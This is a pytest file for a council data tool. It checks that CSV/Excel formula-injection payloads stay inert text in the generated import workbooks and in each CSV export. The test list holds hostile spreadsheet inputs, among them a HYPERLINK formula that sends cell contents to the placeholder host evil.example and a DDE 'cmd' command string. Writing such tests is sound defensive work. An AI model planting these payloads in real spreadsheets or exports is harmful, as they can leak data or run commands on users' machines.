"""Formula payloads (CSV/Excel injection) in council data stay text: in the import workbook
(typed string cells, read back with openpyxl) and in every CSV borough writes."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from borough.audit.reading import export_text, in_range, write_export
from borough.cli import app
from borough.connect import AppServices
from borough.dashboard.routes.audit import download_text
from borough.formulas import looks_like_formula
from borough.ledger import ItemState
from borough.runner import RunRequest, run_bot
from borough.testing import home_env, make_home, runtime_in
from connectors.files import FilesConnector, WorkbookSettings
from tests.support import ctr

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    "=SUM(1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#N/A",
    "=1",
]


def services(home: Path) -> AppServices:
    return AppServices(
        secret=lambda name: "",
        capture=lambda *a, **k: None,
        step=lambda *a, **k: None,
        home=home,
        run_folder=home / "run",
    )


def sheet_cells(path: Path, sheet: str) -> list[list[object]]:
    book = load_workbook(path)
    try:
        return [[(cell.value, cell.data_type) for cell in row] for row in book[sheet].iter_rows()]
    finally:
        book.close()


def test_every_column_written_as_text_never_a_formula(tmp_path: Path):
    columns = ["Key", "Surname", "Forenames", "Postcode", "Note"]
    settings = WorkbookSettings(path="import.xlsx", key_column="Key", columns=columns)
    target = FilesConnector("import", settings, services(tmp_path))
    for index, payload in enumerate(PAYLOADS):
        row = {column: payload for column in columns} | {"Key": f"{payload}#{index}"}
        target.append(row)
    assert target.find(f"{PAYLOADS[1]}#1") == "IMP-000002"
    rows = sheet_cells(tmp_path / "import.xlsx", "Import")
    for index, payload in enumerate(PAYLOADS):
        cells = rows[index + 1][1:]
        assert cells[0] == (f"{payload}#{index}", "s")
        assert cells[1:] == [(payload, "s")] * 4, payload
    with zipfile.ZipFile(tmp_path / "import.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_the_files_bot_keeps_payloads_as_text_and_every_csv_export_is_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    home = make_home(tmp_path / "home", config=ROOT / "config")
    monkeypatch.setenv("BOROUGH_HOST", "@SUM(A1:A9)")  # text that reaches every audit record
    rows = [ctr.GOOD | {"Claim Ref": "HB100100"}]
    for number, (field, payload) in enumerate(
        (field, payload) for field in ctr.FIELDS for payload in PAYLOADS
    ):
        rows.append(ctr.GOOD | {"Claim Ref": f"HB{200000 + number}", field: payload})
    ctr.write_export(home, rows)
    with runtime_in(home) as runtime:
        run = run_bot(runtime, RunRequest("benefits-to-revenues"))
        done = runtime.ledger.items.list(states=[ItemState.DONE], limit=1000)
        records = list(in_range(runtime.paths.audit))
    assert run.counts.done == len(done) > len(PAYLOADS)  # names and postcodes took payloads
    workbook = home / "var/targets/revenues/ctr_import.xlsx"
    written = sheet_cells(workbook, "CTR Import")[1:]
    assert len(written) == len(done)
    text_cells = [cell for row in written for cell in row if isinstance(cell[0], str)]
    assert all(kind == "s" for _, kind in text_cells)
    names = {value for row in written for value, _ in row[4:5]}
    assert "=SUM(1, Amelia" in names and "SMITH, =HYPERLINK(" not in names

    for key, value in home_env(home).items():
        monkeypatch.setenv(key, value)
    cli = CliRunner()
    exports = {
        "audit export": cli.invoke(app, ["audit", "export", "--format", "csv"]).output,
        "export writer": export_text(iter(records), "csv"),
        "dashboard export": download_text(records, "csv"),
    }
    for name, text in exports.items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert len(cells) > 100, name
        live = [cell for cell in cells if looks_like_formula(cell)]
        assert live == [], (name, live[:3])


def test_export_writer_makes_every_field_inert():
    record = {
        field: payload
        for field, payload in zip(
            ["target", "step", "error", "actor", "bot"], PAYLOADS, strict=False
        )
    }
    record |= {"seq": 1, "detail": {"note": "=1"}, "subjects": ["=2"], "outcome": "-12.50"}
    out = io.StringIO()
    write_export(iter([record]), out, "csv")
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    values = dict(zip(header, row, strict=True))
    assert values["target"] == "'=SUM(1" and values["error"] == "'+1+1"
    assert values["outcome"] == "-12.50"  # a plain number stays a number
    assert values["detail"] == '{"note": "=1"}' and values["seq"] == "1"
    assert not any(looks_like_formula(value) for value in values.values())
